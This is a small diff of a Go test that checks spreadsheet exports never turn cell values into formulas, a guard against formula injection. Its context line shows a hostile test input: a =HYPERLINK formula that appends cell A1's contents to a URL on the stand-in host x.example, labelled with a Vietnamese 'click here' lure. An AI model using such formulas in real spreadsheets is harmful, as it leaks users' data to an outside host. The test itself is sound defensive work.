@@ -22,7 +22,7 @@ var hostileCells = []string{`=HYPERLINK("http://x.example/?"&A1,"Bấm vào đâ
 func TestSpreadsheetCellsAreNeverFormulas(t *testing.T) {
 	t.Parallel()
 	db, kinds := demoDB(t)
-	s := demoSummary(t, db, kinds)
+	s := withFindings(t, demoSummary(t, db, kinds))
 	s.Rows[0].Unit.Name = hostileCells[0]
 	for i := range s.Findings {
 		s.Findings[i].UnitName = hostileCells[0]
